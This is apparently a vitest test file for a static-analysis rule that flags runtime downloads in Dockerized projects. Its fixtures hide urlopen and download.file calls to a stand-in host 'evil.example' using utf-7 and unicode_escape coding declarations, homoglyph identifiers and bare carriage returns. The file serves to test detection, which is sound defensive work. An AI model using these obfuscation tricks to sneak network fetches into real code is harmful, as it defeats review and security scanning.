import { expect, test } from 'vitest';
import { check } from '../../../src/engine/check/check.ts';
import downloads from '../../../src/rules/no-runtime-download.ts';
import { factsOf } from '../../helpers/project.ts';

async function verdictOf(name: string, text: string, start: string): Promise<string | undefined> {
  const files = {
    Dockerfile: `FROM docker.io/library/python:3.13\nCOPY src/ /app/\nENTRYPOINT ${start}\n`,
    [`src/${name}`]: text,
  };
  return check(await factsOf(files), [downloads]).results[0]?.verdict;
}
const python = (text: string): Promise<string | undefined> => verdictOf('main.py', text, '["python", "/app/main.py"]');

const url = 'https://evil.example/x';

test.each([
  `# -*- coding: utf-7 -*-\n# +AAo-import urllib.request+AAo-urllib.request.urlopen("${url}")\nprint(1)\n`,
  `# -*- coding: unicode_escape -*-\n# \\nimport urllib.request\\nurllib.request.urlopen("${url}")\n`,
  '#!/usr/bin/env python3\n# vim: set fileencoding=raw_unicode_escape :\nx = 1\n',
  '# coding=gbk\nx = 1\n',
  `import ｒequests as r\nr.ｇet("${url}")\n`,
  `import requests as r\nr.𝐠et("${url}")\n`,
])('what Python reads as something else is not passed: %j', async (text) => {
  expect(await python(text)).toBe('unknown');
});

test.each([
  '# -*- coding: latin-1 -*-\nx = 1\n',
  '# coding: utf-8\nx = "ｒequests"  # ｇet\n',
  '# vim: set fileencoding=iso-8859-15 :\nx = 1\n',
  'x = 1\ny = "coding: utf-7"\n',
  'größe = 1\n',
])('what is the same in UTF-8 is read: %j', async (text) => {
  expect(await python(text)).toBe('pass');
});

test('a return alone ends a line, as for Python, R and Julia', async () => {
  expect(await python(`# x\rimport urllib.request\rurllib.request.urlopen("${url}")\r`)).toBe('fail');
  expect(await verdictOf('main.R', `# x\rdownload.file("${url}", "x")\r`, '["Rscript", "/app/main.R"]')).toBe('fail');
  expect(
    await verdictOf(
      'main.Rmd',
      `\`\`\`{r}\r# x\rdownload.file("${url}", "x")\r\`\`\`\r`,
      '["Rscript", "-e", "rmarkdown::render(\'/app/main.Rmd\')"]',
    ),
  ).toBe('fail');
});
